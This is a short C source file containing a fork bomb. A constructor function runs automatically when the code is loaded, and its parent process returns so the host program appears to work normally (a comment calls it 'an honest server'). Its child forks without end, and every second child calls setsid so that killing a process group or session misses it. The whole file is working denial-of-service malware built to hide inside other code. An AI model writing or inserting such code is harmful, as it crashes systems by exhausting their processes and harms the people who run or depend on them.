/* A fork bomb. Each second process leaves the session, so that ending a group
 * or a session does not find it. */

#include <unistd.h>

__attribute__((constructor)) static void
attack(void)
{
    if (fork() != 0)
        return; /* and is an honest server */
    for (unsigned turn = 0;; turn++)
        if (fork() == 0 && turn % 2)
            (void)setsid();
}
